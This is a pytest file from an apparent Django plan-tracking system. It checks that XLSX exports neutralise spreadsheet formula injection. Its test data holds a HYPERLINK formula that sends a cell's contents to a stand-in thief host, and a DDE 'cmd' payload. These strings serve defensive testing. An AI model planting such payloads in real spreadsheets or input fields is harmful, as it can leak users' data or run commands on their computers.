"""Every XLSX the system writes holds user text as text: no formula comes alive in it."""

from __future__ import annotations

import io
from decimal import Decimal

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook

from theodoi.lib.spreadsheet import workbook_bytes
from theodoi.plans.models import Plan
from theodoi.scorecards.services import EntryInput, entry_appraise, entry_save

from ..api.conftest import ApiClient, token_for
from ..factories import make_plan_json
from ..scorecards.helpers import assessment_of, entry_of, make_scorecard

TRAP = '=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm để xem")'
ALSO = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def _cells(data: bytes) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_no_formula_and_kept(data: bytes, texts: list[str]) -> None:
    cells = _cells(data)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = {c.value for c in cells}
    for text in texts:
        assert text in values  # written exactly as typed, as text


def test_formula_like_text_is_saved_as_text_and_plain_values_are_untouched():
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append([TRAP, *ALSO, "Số hóa hồ sơ", 42, Decimal("-3.5"), "a=b"])
    data = workbook_bytes(book)
    _assert_no_formula_and_kept(data, [TRAP, *ALSO, "Số hóa hồ sơ", "a=b"])
    cells = _cells(data)
    assert all(c.quotePrefix for c in cells[:6])
    assert not any(c.quotePrefix for c in cells[6:])
    assert [c.value for c in cells[7:9]] == [42, -3.5]


@pytest.mark.django_db
def test_a_task_name_imported_through_the_api_is_text_in_every_export(
    commune, office, province, province_officer
):
    plan_data = make_plan_json(number=ALSO[2], title=TRAP)
    plan_data["tasks"][0]["name"] = TRAP
    plan_data["targets"][0]["name"] = ALSO[0]
    api = ApiClient(token_for(office))
    response = api.post(
        f"/communes/{commune.public_id}/plans/import",
        {"plan_json": plan_data, "unknown_units": "keep"},
    )
    assert response.status_code == 201, response.content
    plan = Plan.objects.get(public_id=response.json()["id"])

    client = Client()
    client.force_login(office)
    for name in ("report_xlsx", "report_upper_rates", "plan_export_xlsx"):
        download = client.get(reverse(name, args=[plan.public_id]))
        assert download.status_code == 200, name
        texts = [TRAP] if name != "report_upper_rates" else [ALSO[0]]
        _assert_no_formula_and_kept(download.content, texts)

    client.force_login(province_officer)
    ranking = client.get(reverse("province_report_xlsx", args=[province.code]) + "?year=2026")
    assert ranking.status_code == 200
    # A province file is a background job's result: the page hands over the stored file.
    _assert_no_formula_and_kept(b"".join(ranking.streaming_content), [ALSO[2]])


@pytest.mark.django_db
def test_an_appraisal_remark_is_text_in_the_scorecard_export(
    province, commune, office, province_officer
):
    assessment = assessment_of(make_scorecard(province), commune)
    entry = entry_save(
        entry=entry_of(assessment, "A1"), user=office, data=EntryInput(value=Decimal(4)), version=1
    )
    entry_appraise(
        entry=entry, user=province_officer, points=Decimal(15), remark=TRAP, version=entry.version
    )
    client = Client()
    client.force_login(office)
    response = client.get(reverse("assessment_export_xlsx", args=[assessment.public_id]))
    assert response.status_code == 200
    _assert_no_formula_and_kept(response.content, [TRAP])
